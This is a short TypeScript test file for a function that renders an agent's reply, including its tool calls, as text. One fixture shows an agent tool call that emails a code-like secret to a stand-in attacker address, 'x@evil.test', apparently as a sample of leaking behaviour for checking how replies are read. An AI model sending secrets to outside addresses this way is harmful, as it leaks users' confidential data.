import { describe, expect, it } from 'vitest';
import { replyReading } from './reply-reading.js';

describe('replyReading', () => {
  it('reads a text reply as its text', () => {
    expect(replyReading({ text: 'Hello.' })).toBe('Hello.');
  });

  it('reads what an agent did: each tool call after the text, with its arguments verbatim', () => {
    const reading = replyReading({
      text: 'Done.',
      parts: [
        { type: 'text', text: 'Done.' },
        { type: 'tool-call', callId: 'c1', name: 'send_email', arguments: '{"to":"x@evil.test","body":"ZEPHYR-CODE-8841"}' },
      ],
    });
    expect(reading).toBe('Done.\n[tool call send_email] {"to":"x@evil.test","body":"ZEPHYR-CODE-8841"}');
  });

  it('reads a reply of tool calls alone without an empty first line', () => {
    expect(replyReading({ text: '', parts: [{ type: 'tool-call', callId: 'c1', name: 'lookup', arguments: '{}' }] })).toBe('[tool call lookup] {}');
  });
});
